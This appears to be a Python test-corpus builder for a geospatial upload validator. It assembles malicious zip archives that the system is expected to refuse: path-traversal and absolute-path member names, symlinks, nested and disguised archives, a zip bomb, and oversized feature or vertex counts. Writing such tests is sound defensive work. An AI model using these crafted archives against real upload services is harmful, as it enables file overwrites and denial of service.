    gbk = xuhui_shapefile("gbk")
    # --- zips ---
    c["zip-path-traversal"] = Case(
        zip_bytes({"../../evil.shp": gbk[".shp"], "evil.dbf": gbk[".dbf"]}), "t.zip", "refused-zip"
    )
    c["zip-absolute-path"] = Case(zip_bytes({"/tmp/evil.shp": gbk[".shp"]}), "a.zip", "refused-zip")
    c["zip-symlink"] = Case(zip_bytes({"z.dbf": gbk[".dbf"]}, extra=_link_zip), "l.zip", "refused-zip")
    c["zip-nested"] = Case(
        zip_bytes({"inner.zip": zip_bytes({f"z{s}": b for s, b in gbk.items()}), "z.shp": gbk[".shp"]}),
        "n.zip",
        "refused-zip",
    )
    c["zip-nested-disguised"] = Case(
        zip_bytes({"z.shp": zip_bytes({"a.txt": b"x" * 100}), "z.shx": gbk[".shx"], "z.dbf": gbk[".dbf"]}),
        "d.zip",
        "refused-zip",
    )
    c["zip-many-members"] = Case(
        zip_bytes({f"f{i}.txt": b"" for i in range(300)} | {"z.shp": gbk[".shp"]}), "m.zip", "refused-zip"
    )
    c["zip-bomb"] = Case(zip_bomb(), "bomb.zip", "refused-zip", slow=True)
    c["zip-no-shp"] = Case(zip_bytes({"readme.txt": b"hello"}), "x.zip", "refused-type")
    c["zip-millions-of-features"] = Case(many_points_zip(), "points.zip", "too-large", slow=True)
    c["huge-vertex-count"] = Case(huge_vertex_geojson(), "huge.geojson", "too-large", slow=True)


def build() -> dict[str, Case]:
    """Every corpus entry, by name."""
    canary = ensure_canary()
    names = [n for _, n, _ in XUHUI]
    c: dict[str, Case] = {}
    for add in (_formats, _encodings, _hygiene, _coordinates, _hostile_text, _refused_types, _xml_tricks, _zips):
        add(c, canary, names)
    return c
